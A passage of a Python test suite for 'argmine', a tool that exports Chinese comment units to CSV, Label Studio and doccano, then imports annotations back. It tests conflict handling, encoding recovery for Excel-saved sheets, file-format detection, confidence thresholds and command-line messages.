def test_csv_import_accepts_full_width_theme_separators(tmp_path, sep):
    export(UNITS[:1], tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes=f"privacy{sep}bloat", sentiment="negative"))
    result = import_annotations([tmp_path / "u.csv"], "csv", strict=True)
    assert [r.themes for r in result.records] == [("privacy", "bloat")]


def test_label_studio_two_sentiments_are_an_error_not_a_guess(tmp_path):
    export(UNITS[:2], tmp_path / "ls", "label-studio")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))

    def annotate(task):
        result = ls_choice_result(["privacy"], "negative")
        if task["data"]["unit_id"] == UNITS[0].id:
            result[1]["value"]["choices"] = ["neutral", "negative"]
        return result

    (tmp_path / "e.json").write_text(json.dumps(as_ls_export(tasks, annotate)), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    assert [str(p) for p in result.errors] == [
        f"{tmp_path / 'e.json'} task 1 annotation 101: several sentiments ['neutral', 'negative']; "
        "choose one in Label Studio (the sentiment choice is single)"
    ]
    assert [r.id for r in result.records] == [UNITS[1].id]


def test_label_studio_document_region_with_two_sentiments_is_an_error(tmp_path):
    export(UNITS[:1], tmp_path / "ls", "label-studio", documents=DOCS, level="document")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    u = UNITS[0]
    span = {"start": 0, "end": u.end, "text": u.text}
    regions = [{"id": "r0", "from_name": "unit", "to_name": "text", "type": "labels", "value": {**span, "labels": ["privacy"]}},
               {"id": "r0", "from_name": "sentiment", "to_name": "text", "type": "choices", "value": {**span, "choices": ["positive", "negative"]}}]
    (tmp_path / "e.json").write_text(json.dumps(as_ls_export(tasks, lambda t: regions)), "utf-8")
    with pytest.raises(AnnotationError, match=r"task 1 annotation 101 region r0: several sentiments \['positive', 'negative'\]; choose one"):
        import_annotations([tmp_path / "e.json"], "label-studio", strict=True)


def test_conflict_is_a_top_level_field_as_documented(tmp_path):
    from argmine.annotations import load_gold, write_gold

    export(UNITS[:1], tmp_path / "a.csv", "csv")
    fill_csv(tmp_path / "a.csv", lambda row: row.update(themes="privacy", sentiment="negative", annotator="a"))
    export(UNITS[:1], tmp_path / "b.csv", "csv")
    fill_csv(tmp_path / "b.csv", lambda row: row.update(themes="bloat", sentiment="negative", annotator="b"))
    write_gold(tmp_path / "g.jsonl", import_annotations([tmp_path / "a.csv", tmp_path / "b.csv"], "csv").records)
    line = json.loads((tmp_path / "g.jsonl").read_text("utf-8"))
    assert line["conflict"] is True and "meta" not in line
    assert load_gold(tmp_path / "g.jsonl")[0].meta == {"conflict": True}
    docs = (ROOT / "docs" / "annotation-formats.md").read_text("utf-8")
    assert 'a top-level `"conflict": true` field' in docs and "meta.conflict" not in docs


def test_cli_export_reports_counts_and_warns_when_nothing_is_left(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "a.txt").write_text("财不外露。来往已死。\n", "utf-8")
    (tmp_path / "b.txt").write_text("支付宝做社交是对的。\n", "utf-8")
    runner = CliRunner()
    out = tmp_path / "all.csv"
    res = runner.invoke(main, ["export", str(tmp_path / "a.txt"), str(tmp_path / "b.txt"), "--format", "csv", "--no-predictions", "-o", str(out)])
    assert res.exit_code == 0, res.output
    assert res.stderr == f"argmine: 3 units from 2 documents written to {out}\n"
    # every unit labelled: the import of the full sheet is the gold, so nothing is left to export
    fill_csv(out, lambda row: row.update(themes="privacy", sentiment="negative"))
    res = runner.invoke(main, ["import", str(out), "--format", "csv", "-o", str(tmp_path / "gold.jsonl")])
    assert res.exit_code == 0, res.output
    gold = tmp_path / "gold.jsonl"
    res = runner.invoke(main, ["export", str(tmp_path / "a.txt"), str(tmp_path / "b.txt"), "--format", "label-studio", "--no-predictions",
                               "--only-unlabeled", str(gold), "-o", str(tmp_path / "ls"), "-q"])
    assert res.exit_code == 0, res.output
    assert res.stderr == (f"argmine: warning: 0 units written to {tmp_path / 'ls'}: all 3 units of the inputs are already labelled "
                          f"in {gold} (--only-unlabeled); nothing is left to label\n")
    res = runner.invoke(main, ["export", str(tmp_path / "a.txt"), str(tmp_path / "b.txt"), "--format", "csv", "--no-predictions",
                               "--only-unlabeled", str(gold), "--sample", "1", "-o", "-"])
    assert res.stderr.startswith("argmine: warning: 0 units written to standard output: all 3 units")
    (tmp_path / "a.txt").write_text("财不外露。来往已死。新的一句。\n", "utf-8")  # one more unit to label
    res = runner.invoke(main, ["export", str(tmp_path / "a.txt"), "--format", "csv", "--no-predictions", "--only-unlabeled", str(gold), "-o", str(out)])
    assert res.stderr == f"argmine: 1 unit from 1 document written to {out} (2 already labelled in {gold} skipped)\n"


# --- QA round 4: spreadsheets, duplicates, ground truth, layouts, counts ----------------------


def write_csv(path, rows, encoding="utf-8-sig"):
    with open(path, "w", encoding=encoding, newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def test_csv_doc_cell_reformatted_by_a_spreadsheet_is_taken_from_the_id(tmp_path):
    text = "支付宝做社交是对的。财不外露。"
    units = [Unit.from_source(text, doc=doc, n=n, start=s, end=e, kind="comment")
             for doc in ("4012345678901230", "4012345678901231", "00123") for n, (s, e) in enumerate([(0, 10), (10, 15)], 1)]
    export(units, tmp_path / "u.csv", "csv")
    # what Excel saves: 16-digit ids in scientific notation, leading zeros dropped; the id (with '#') stays text
    fill_csv(tmp_path / "u.csv", lambda row: row.update(doc="4.01235E+15" if row["doc"].startswith("401") else row["doc"].lstrip("0"),
                                                       themes="privacy", sentiment="negative"))
    for source in (None, units):
        result = import_annotations([tmp_path / "u.csv"], "csv", units=source)
        assert not result.errors
        assert sorted((r.id, r.doc, r.start) for r in result.records) == sorted((u.id, u.doc, u.start) for u in units)
        assert len({r.key for r in result.records}) == len(units)  # no two documents merged
        assert str(result.warnings[0]) == (
            f"{tmp_path / 'u.csv'}: row 1 (line 2) (unit 4012345678901230#1): the doc cell reads '4.01235E+15' but the id names document "
            "'4012345678901230': a spreadsheet reformatted the doc column (long numbers, leading zeros); the id was used; "
            "format the id and doc columns as text before saving")
        assert "reads '123' but the id names document '00123'" in str(result.warnings[-1])
        assert len(result.warnings) == len(units)


def test_cli_import_that_reads_nothing_leaves_the_output_as_it_was(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    gold = tmp_path / "gold.jsonl"
    gold.write_text('{"id": "d#1"}\n', "utf-8")
    export(UNITS, tmp_path / "ls", "label-studio")
    text = (tmp_path / "ls" / "tasks.json").read_text("utf-8")
    (tmp_path / "cut.json").write_text(text[: len(text) // 2], "utf-8")
    res = CliRunner().invoke(main, ["import", str(tmp_path / "cut.json"), "--format", "label-studio", "-o", str(gold)])
    assert res.exit_code == 1
    assert gold.read_text("utf-8") == '{"id": "d#1"}\n'
    assert "no gold record imported, nothing written to" in res.output and "1 of 1 file failed (not read)" in res.output
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_one_labeler_labelling_a_unit_twice_differently_is_a_conflict(tmp_path):
    export(UNITS[:2], tmp_path / "u.csv", "csv")
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    rows = [dict(rows[0], themes="privacy", sentiment="negative", annotator="amy"),
            dict(rows[1], themes="bloat", sentiment="neutral", annotator="amy"),
            dict(rows[0], themes="pro_social", sentiment="positive", annotator="amy"),
            dict(rows[1], themes="bloat", sentiment="neutral", annotator="amy")]  # an identical repeat merges silently
    write_csv(tmp_path / "u.csv", rows)
    result = import_annotations([tmp_path / "u.csv"], "csv")
    assert [str(c) for c in result.conflicts] == [
        f"unit d1#1: amy labelled it 2 times with different labels ({tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1): privacy/negative; "
        f"{tmp_path / 'u.csv'}: row 3 (line 4) (unit d1#1): pro_social/positive)"]
    first = result.records[0]
    assert (first.themes, first.sentiment, first.meta) == (("pro_social",), "positive", {"conflict": True})
    assert first.passes == {"amy": {"themes": ("pro_social",), "sentiment": "positive"},
                            f"amy ({tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1))": {"themes": ("privacy",), "sentiment": "negative"}}
    assert "conflict" not in result.records[1].meta and list(result.records[1].passes) == ["amy"]


def test_label_studio_one_user_annotating_twice_keeps_the_latest_and_reports_it(tmp_path):
    export(UNITS[:1], tmp_path / "ls", "label-studio")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    anns = [{"id": 8, "completed_by": 1, "updated_at": "2024-06-01T00:00:00Z", "result": ls_choice_result(["privacy"], "negative")},
            {"id": 7, "completed_by": 1, "updated_at": "2024-05-01T00:00:00Z", "result": ls_choice_result(["bloat"], "neutral")}]
    (tmp_path / "e.json").write_text(json.dumps([{"id": 1, "data": tasks[0]["data"], "annotations": anns}]), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    assert (result.records[0].themes, result.records[0].sentiment) == (("privacy",), "negative")  # annotation 8 is the later one
    assert "label-studio-user-1 labelled it 2 times with different labels" in str(result.conflicts[0])


def test_label_studio_document_two_regions_on_one_unit_is_a_conflict(tmp_path):
    export(UNITS[:1], tmp_path / "ls", "label-studio", documents=DOCS, level="document")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    u = UNITS[0]
    span = {"start": 0, "end": u.end, "text": u.text}
    regions = []
    for rid, theme, sentiment in (("r0", "brand_fit", "negative"), ("r9", "privacy", "positive")):
        regions += [{"id": rid, "from_name": "unit", "to_name": "text", "type": "labels", "value": {**span, "labels": [theme]}},
                    {"id": rid, "from_name": "sentiment", "to_name": "text", "type": "choices", "value": {**span, "choices": [sentiment]}}]
    (tmp_path / "e.json").write_text(json.dumps(as_ls_export(tasks[:1], lambda t: regions)), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    assert len(result.conflicts) == 1 and "region r0: brand_fit/negative; " in str(result.conflicts[0])
    assert len(result.records[0].passes) == 2


def test_label_studio_ground_truth_annotation_wins(tmp_path):
    export(UNITS[:1], tmp_path / "ls", "label-studio")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    anns = [{"id": 900, "completed_by": 2, "ground_truth": True, "result": ls_choice_result(["privacy"], "negative")},
            {"id": 901, "completed_by": 1, "ground_truth": False, "result": ls_choice_result(["bloat"], "positive")}]
    (tmp_path / "e.json").write_text(json.dumps([{"id": 1, "data": tasks[0]["data"], "annotations": anns}]), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    rec = result.records[0]
    assert (rec.themes, rec.sentiment) == (("privacy",), "negative")
    assert set(rec.passes) == {"label-studio-user-1", "label-studio-user-2"}
    assert result.conflicts[0].kept == "the ground-truth annotation's labels (label-studio-user-2)"
    assert "ground_truth" in (ROOT / "docs" / "annotation-formats.md").read_text("utf-8")


def _as_jsonl(path, objs):
    path.write_text("".join(json.dumps(o, ensure_ascii=False) + "\n" for o in objs), "utf-8")


@pytest.mark.parametrize("fmt, make, message", [
    ("doccano", lambda p, tasks: p.write_text(json.dumps(as_ls_export(tasks, lambda t: []), indent=2), "utf-8"),
     "looks like a Label Studio JSON export (3 tasks), not doccano's JSONL export (one JSON object per line); use --format label-studio"),
    ("label-studio", lambda p, tasks: p.write_text(json.dumps([{**t["data"], "id": 1, "annotator": 1, "annotation_id": 2,
                                                                 "sentiment": "negative"} for t in tasks]), "utf-8"),
     "looks like a Label Studio JSON_MIN export (3 flat rows, no 'data' objects), not Label Studio's JSON export "
     "(one JSON array of tasks); export it again from Label Studio with export type JSON (not JSON_MIN), then use --format label-studio"),
    ("label-studio", lambda p, tasks: _as_jsonl(p, [t["data"] for t in tasks]),
     "looks like JSON lines (3 objects, one per line), not Label Studio's JSON export (one JSON array of tasks); use --format doccano"),
    ("label-studio", lambda p, tasks: export(UNITS[:3], p, "csv"),
     "looks like a CSV sheet (columns id, doc, start, end, kind, …), not Label Studio's JSON export (one JSON array of tasks); use --format csv"),
    ("csv", lambda p, tasks: p.write_text(json.dumps(as_ls_export(tasks, lambda t: [])), "utf-8"),
     "looks like a Label Studio JSON export (3 tasks), not the CSV sheet written by 'argmine export --format csv'; use --format label-studio"),
])
def test_a_file_in_another_layout_is_one_line_naming_the_right_format(tmp_path, fmt, make, message):
    export(UNITS[:3], tmp_path / "ls", "label-studio")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    make(tmp_path / "f", tasks)
    result = import_annotations([tmp_path / "f"], fmt)
    assert [str(p) for p in result.problems] == [f"{tmp_path / 'f'}: {message}"]
    assert result.problems[0].file_level


def test_doccano_json_array_export_is_read(tmp_path):
    export(UNITS, tmp_path / "dc", "doccano")
    lines = [json.loads(x) for x in (tmp_path / "dc" / "tasks.jsonl").read_text("utf-8").splitlines()]
    records = [{**obj, "id": n, "label": list(edited(obj["unit_id"])[0]) + [edited(obj["unit_id"])[1]]} for n, obj in enumerate(lines, 1)]
    (tmp_path / "all.json").write_text(json.dumps(records, ensure_ascii=False), "utf-8")  # doccano's "JSON" export: one array
    assert_round_trip(import_annotations([tmp_path / "all.json"], "doccano", units=UNITS, strict=True))


def test_repeated_causes_are_summarised():
    from argmine.cli.importcmd import summarise
    from argmine.importers import Problem

    problems = [Problem(f"f.csv:{n}", f"span {n} is part of a unit; pass --source-granularity clause", cause="pass --source-granularity clause")
                for n in range(2, 9)] + [Problem("f.csv:20", "unknown theme 'x'")]
    assert summarise(problems) == ["f.csv:2: span 2 is part of a unit; pass --source-granularity clause",
                                   "f.csv:3: span 3 is part of a unit; pass --source-granularity clause",
                                   "f.csv:4: span 4 is part of a unit; pass --source-granularity clause",
                                   "... and 4 more records with the same problem: pass --source-granularity clause",
                                   "f.csv:20: unknown theme 'x'"]


def test_cli_granularity_mismatch_prints_three_lines_and_a_count(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "page.txt").write_text("支付宝做社交这件事情我觉得是对的，但是我不想让别人看到我的消费记录。我只想安安静静地付钱转账，"
                                       "别的功能我一个都不想要。这个应用越来越臃肿了，打开的速度也越来越慢。\n", "utf-8")  # 6 clauses, 3 sentences
    runner = CliRunner()
    res = runner.invoke(main, ["export", str(tmp_path / "page.txt"), "--format", "csv", "--no-predictions", "--granularity", "clause",
                               "-o", str(tmp_path / "c.csv")])
    assert res.exit_code == 0, res.output
    fill_csv(tmp_path / "c.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    res = runner.invoke(main, ["import", str(tmp_path / "c.csv"), "--format", "csv", "--source", str(tmp_path / "page.txt"),
                               "-o", str(tmp_path / "g.jsonl")])
    errors = [line for line in res.output.splitlines() if line.startswith("argmine: error:")]
    assert res.exit_code == 1 and len(errors) == 4
    assert errors[-1] == ("argmine: error: ... and 3 more records with the same problem: the export was probably cut into clauses: "
                          "pass --source-granularity clause (as given to 'export --granularity')")
    assert "6 records failed" in res.output


def test_csv_trailing_empty_rows_are_not_units(tmp_path):
    export(UNITS[:2], tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    with open(tmp_path / "u.csv", "a", encoding="utf-8", newline="") as f:
        f.write("," * 14 + "\r\n" + "," * 14 + "\r\n")
    result = import_annotations([tmp_path / "u.csv"], "csv")
    assert len(result.records) == 2 and result.problems == []


def test_redrawn_region_counts_as_failed_not_also_unlabelled(tmp_path):
    export(UNITS[:3], tmp_path / "ls", "label-studio", documents=DOCS, level="document")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    def region(rid, s, e, theme):
        span = {"start": s, "end": e, "text": DOCS[0].text[s:e]}
        return [{"id": rid, "from_name": "unit", "to_name": "text", "type": "labels", "value": {**span, "labels": [theme]}},
                {"id": rid, "from_name": "sentiment", "to_name": "text", "type": "choices", "value": {**span, "choices": ["negative"]}}]

    u1, u2, u3 = UNITS[:3]
    regions = region("a", u1.start, u1.end, "privacy") + region("b", u2.start, u2.end - 1, "privacy")  # b redrawn one short; u3 left
    (tmp_path / "e.json").write_text(json.dumps(as_ls_export(tasks[:1], lambda t: regions)), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    assert [r.id for r in result.records] == [u1.id]
    assert len(result.errors) == 1 and f"nearest unit: {u2.id}" in str(result.errors[0])
    assert [p.where for p in result.unlabeled] == [f"{tmp_path / 'e.json'} task 1 annotation 101 unit {u3.id}"]


def test_text_edited_in_the_sheet_keeping_its_length_names_both_causes(tmp_path):
    export(UNITS, tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative",
                                                         text="来往已活。" if row["id"] == "d1#3" else row["text"]))
    result = import_annotations([tmp_path / "u.csv"], "csv", units=UNITS)
    assert [str(p) for p in result.errors] == [
        f"{tmp_path / 'u.csv'}: row 3 (line 4) (unit d1#3): text mismatch for unit d1#3 (d1 21..26): the record has '来往已活。' but the source has "
        "'来往已死。'; if the text was edited in the file, restore it (labels follow the id and offsets); "
        "if the source changed since export, run 'argmine realign' or export again"]


def test_csv_saved_by_excel_as_gbk_is_read(tmp_path):
    export(UNITS, tmp_path / "u.csv", "csv")
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        row.update(themes="privacy", sentiment="negative", note="已看过",
                   text=row["text"].encode("gbk", errors="replace").decode("gbk"))  # Excel's plain "CSV": emoji/𠮷 become '?'
    write_csv(tmp_path / "u.csv", rows, encoding="gbk")
    result = import_annotations([tmp_path / "u.csv"], "csv", units=UNITS)
    assert not result.errors and [r.text for r in result.records] == [u.text for u in UNITS]  # the source's text, '?' repaired
    # the encoding Excel saved it in, in both warnings (decoded by GB18030, its superset, which would hold 😀 and 𠮷)
    assert str(result.warnings[0]).startswith(f"{tmp_path / 'u.csv'}: read as gbk (the sheet was saved as plain CSV, not CSV UTF-8): "
                                              "characters that encoding cannot hold (emoji, rare characters such as 𠮷)")
    assert "every text is checked against --source" in str(result.warnings[0])  # no advice to pass what was passed
    assert str(result.warnings[1]) == (
        f"{tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1): the text of unit d1#1 reads '支付宝做社交是对的?。': characters the file's "
        "encoding (gbk) cannot hold (😀) became '?' when it was saved; the source's text was used")
    forced = import_annotations([tmp_path / "u.csv"], "csv", units=UNITS, encoding="gb18030")
    assert [str(w) for w in forced.warnings] == [str(w) for w in result.warnings]
    alone = import_annotations([tmp_path / "u.csv"], "csv")
    assert "pass --source to check every text" in str(alone.warnings[0])


@pytest.mark.parametrize("saved_as, note, given", [
    ("big5", "這個單位已經標註過了，請繼續檢查。", None),  # Excel's plain "CSV" on Traditional-Chinese Windows
    ("cp950", "100€", "big5"),  # Windows' Big5: € (not in Big5) in a note makes --encoding big5 read the sheet as cp950
])
def test_csv_saved_as_big5_recovers_simplified_characters_and_names_one_encoding(tmp_path, saved_as, note, given):
    export(UNITS, tmp_path / "u.csv", "csv")
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:  # Simplified characters, emoji and 𠮷 become '?'
        row.update(themes="privacy", sentiment="negative", note=note, text=row["text"].encode(saved_as, errors="replace").decode(saved_as))
    write_csv(tmp_path / "u.csv", rows, encoding=saved_as)
    result = import_annotations([tmp_path / "u.csv"], "csv", units=UNITS, **({"encoding": given} if given else {}))
    assert not result.errors and [r.text for r in result.records] == [u.text for u in UNITS]
    assert str(result.warnings[0]).startswith(f"{tmp_path / 'u.csv'}: read as {saved_as} (the sheet was saved as plain CSV, not CSV UTF-8): "
                                              "characters that encoding cannot hold (emoji, most Simplified Chinese characters)")
    assert str(result.warnings[1]) == (
        f"{tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1): the text of unit d1#1 reads '支付?做社交是?的?。': characters the file's encoding "
        f"({saved_as}) cannot hold (宝对😀) became '?' when it was saved; the source's text was used")


def test_csv_of_strict_big5_read_as_cp950_takes_a_lost_character_cp950_holds_from_the_source(tmp_path):
    text = "裏面的轉帳紀錄。"
    units = [Unit.from_source(text, doc="tw", n=1, start=0, end=len(text), kind="comment")]
    export(units, tmp_path / "u.csv", "csv")
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    rows[0].update(themes="privacy", sentiment="negative", text=text.encode("big5", errors="replace").decode("big5"))
    write_csv(tmp_path / "u.csv", rows, encoding="big5")  # a strict Big5 tool: 裏 (in cp950, not Big5) became '?'
    result = import_annotations([tmp_path / "u.csv"], "csv", units=units, encoding="cp950")
    assert not result.errors and [r.text for r in result.records] == [text]
    assert str(result.warnings[0]).startswith(f"{tmp_path / 'u.csv'}: read as cp950 ")
    assert str(result.warnings[1]) == (
        f"{tmp_path / 'u.csv'}: row 1 (line 2) (unit tw#1): the text of unit tw#1 reads '?面的轉帳紀錄。': characters the file's encoding "
        "(cp950, written as strict Big5) cannot hold (裏) became '?' when it was saved; the source's text was used")


def test_csv_in_gb18030_itself_is_not_said_to_have_lost_characters(tmp_path):
    export(UNITS, tmp_path / "u.csv", "csv")
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        row.update(themes="privacy", sentiment="negative")
    write_csv(tmp_path / "u.csv", rows, encoding="gb18030")  # 😀 and 𠮷 kept: GB18030 holds every character
    result = import_annotations([tmp_path / "u.csv"], "csv", units=UNITS)
    assert not result.errors and [r.text for r in result.records] == [u.text for u in UNITS]
    assert [str(w) for w in result.warnings] == [
        f"{tmp_path / 'u.csv'}: read as gb18030 (the sheet is not UTF-8; that encoding holds every character); every text is "
        "checked against --source, and save as CSV UTF-8 next time"]


@pytest.mark.parametrize("delimiter, encoding", [("\t", "utf-16"), (";", "utf-8-sig")])  # Excel's "Unicode Text"; a ';' locale
def test_csv_sheet_with_tab_or_semicolon_separators_is_read(tmp_path, delimiter, encoding):
    export(UNITS, tmp_path / "u.csv", "csv")
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        row.update(themes="privacy;bloat", sentiment="negative")
    with open(tmp_path / "u.txt", "w", encoding=encoding, newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]), delimiter=delimiter)
        w.writeheader()
        w.writerows(rows)
    result = import_annotations([tmp_path / "u.txt"], "csv", units=UNITS)
    assert not result.errors and not result.warnings
    assert [(r.id, r.text, r.themes) for r in result.records] == [(u.id, u.text, ("privacy", "bloat")) for u in UNITS]


def test_other_together_with_a_theme_is_reported_and_the_theme_kept(tmp_path):
    export(UNITS[:1], tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="other;privacy", sentiment="negative"))
    result = import_annotations([tmp_path / "u.csv"], "csv")
    assert result.records[0].themes == ("privacy",)
    assert [str(w) for w in result.warnings] == [
        f"{tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1): 'other' (no theme) is checked together with privacy; privacy kept: uncheck one of them"]


# --- QA round 4: confidence against the model's thresholds, --schema without --model, summaries ------


def test_confidence_is_the_distance_from_each_themes_own_threshold():
    # brand_fit 0.21 against its threshold 0.2 is on the boundary; privacy 0.49 is clear of its 0.1
    near = Prediction(("brand_fit",), {"brand_fit": 0.21, "privacy": 0.0}, "neutral", 0.0, thresholds={"brand_fit": 0.2, "privacy": 0.1})
    far = Prediction(("privacy",), {"brand_fit": 0.0, "privacy": 0.49}, "neutral", 0.0, thresholds={"brand_fit": 0.2, "privacy": 0.1})
    assert near.confidence == pytest.approx(0.01 / 0.8) and far.confidence == pytest.approx(0.39 / 0.9)
    ranked = select([Item(UNITS[0], far), Item(UNITS[1], near)], order="uncertainty")
    assert [it.unit.id for it in ranked] == [UNITS[1].id, UNITS[0].id]
    # a backend without thresholds: 0.5, the old |p - 0.5| * 2
    assert Prediction((), {"privacy": 0.3, "bloat": 0.9}, "neutral", 0.0).confidence == pytest.approx(0.4)


def test_exports_show_the_threshold_confidence(tmp_path):
    p = Prediction(("brand_fit",), {"brand_fit": 0.24, "privacy": 0.0}, "neutral", 0.0, thresholds={"brand_fit": 0.2, "privacy": 0.1})
    export(UNITS[:1], tmp_path / "u.csv", "csv", predictions=[p])
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        assert next(csv.DictReader(f))["confidence"] == "0.050"  # (0.24 - 0.2) / 0.8; from 0.5 it was 0.520
    export(UNITS[:1], tmp_path / "ls", "label-studio", predictions=[p])
    task = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))[0]
    assert task["predictions"][0]["score"] == 0.05 and task["predictions"][0]["result"][0]["score"] == 0.05


def test_backends_report_the_thresholds_they_decide_with():
    from argmine.classify import load_model

    linear = load_model()
    (p,) = linear.predict(["支付宝做社交是对的。"])
    assert p.thresholds == dict(zip(linear.schema_.theme_ids, linear.thresholds_.tolist()))
    assert set(p.themes) == {t for t, s in p.scores.items() if s >= p.thresholds[t]}
    lexicon = load_model("lexicon")
    lexicon.threshold = 0.3
    (q,) = lexicon.predict(["支付宝做社交是对的。"])
    assert q.thresholds == dict.fromkeys(SCHEMA.theme_ids, 0.3)


def test_cli_export_schema_the_packaged_model_was_not_trained_for_is_refused(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "page.txt").write_text("放鞭炮有年味。雾霾太重了。\n", "utf-8")
    (tmp_path / "fire.toml").write_text(FIRE_TOML, "utf-8")
    args = ["export", str(tmp_path / "page.txt"), "--format", "csv", "--schema", str(tmp_path / "fire.toml"), "-o", str(tmp_path / "x.csv")]
    res = CliRunner().invoke(main, args)
    assert res.exit_code == 2 and not (tmp_path / "x.csv").exists()
    assert res.output.count("\n") == 1 and "drop --schema" not in res.output
    assert ("the packaged model knows only the themes of argmine/schemas/alipay.toml: pass --model lexicon (it works with any schema; "
            "model='lexicon' in Python), train a model for this schema (argmine train GOLD --schema FILE -o DIR, then --model DIR; "
            "model=DIR in Python), or, to export units without pre-annotations, 'argmine export --no-predictions' (export() "
            "without predictions= in Python)\n") in res.output
    # without predictions the schema is only the labeling config
    res = CliRunner().invoke(main, [*args[:-2], "--no-predictions", "--format", "label-studio", "-o", str(tmp_path / "ls")])
    assert res.exit_code == 0, res.output
    assert '<Choice value="tradition"' in (tmp_path / "ls" / "config.xml").read_text("utf-8")


def test_cli_export_uncertainty_without_predictions_is_a_usage_error(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "page.txt").write_text("财不外露。\n", "utf-8")
    res = CliRunner().invoke(main, ["export", str(tmp_path / "page.txt"), "--format", "csv", "--order", "uncertainty",
                                    "--no-predictions", "-o", str(tmp_path / "x.csv")])
    assert res.exit_code == 2
    assert "Error: --order uncertainty ranks units by the model's predictions; drop --no-predictions" in res.output


def test_cli_import_summary_counts_what_it_warned_about(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    export(UNITS[:2], tmp_path / "ls", "label-studio")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    done = as_ls_export(tasks[:1], lambda t: ls_choice_result(["privacy"], "negative"))
    done[0]["annotations"][1] = {"id": 300, "completed_by": 2, "was_cancelled": False, "result": ls_choice_result(["bloat"], "negative")}
    done += [{"id": 2, "data": tasks[1]["data"], "annotations": []}]  # not labelled
    (tmp_path / "e.json").write_text(json.dumps(done), "utf-8")
    res = CliRunner().invoke(main, ["import", str(tmp_path / "e.json"), "--format", "label-studio", "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 0, res.output
    assert res.stderr.count("argmine: warning:") == 2
    assert res.stderr.splitlines()[-1] == f"argmine: 1 gold record written to {tmp_path / 'g.jsonl'}; 0 records failed, 1 conflict, 1 unlabelled"


def test_cli_import_source_with_a_bad_record_imports_the_rest(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    table = tmp_path / "src.jsonl"
    table.write_text('{"id": "1", "text": "财不外露。"}\n{"id": "2", "text": 5}\n{"id": "3", "text": "隐私最重要。"}\n', "utf-8")
    runner = CliRunner()
    res = runner.invoke(main, ["export", str(table), "--format", "csv", "--no-predictions", "-o", str(tmp_path / "u.csv")])
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
    res = runner.invoke(main, ["import", str(tmp_path / "u.csv"), "--format", "csv", "--source", str(table), "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 1
    assert f"argmine: error: --source {table}: line 2:" in res.output
    assert "1 source record could not be read" in res.output
    gold = [json.loads(x) for x in (tmp_path / "g.jsonl").read_text("utf-8").splitlines()]
    assert [g["doc"] for g in gold] == ["1", "3"]


def test_export_label_configs_colour_each_theme_as_the_report_does(tmp_path):
    import warnings

    from argmine.schema import PALETTE, color_of, parse_schema

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # 'navy' is a SchemaWarning (tests/test_schema.py)
        schema = parse_schema({"schema": {"id": "ebike"}, "themes": [
            {"id": "safety", "color": "navy"}, {"id": "cost"}, {"id": "speed", "color": "#1D3557"}],
            "sentiment": {"positive": ["好"]}})
    # no colour and a colour that is not hex: a palette colour each; never the grey of 'other'
    want = {"safety": PALETTE[0], "cost": PALETTE[1], "speed": "#1d3557"}
    assert {t.id: color_of(t, i) for i, t in enumerate(schema.themes)} == want
    ls = ET.fromstring(label_studio_config(schema, "document"))
    assert {x.get("value"): x.get("background") for x in ls.iter("Label")} == want | {"other": "#888888"}
    export(UNITS[:1], tmp_path / "dc", "doccano", schema=schema)
    doccano = json.loads((tmp_path / "dc" / "label_types.json").read_text("utf-8"))
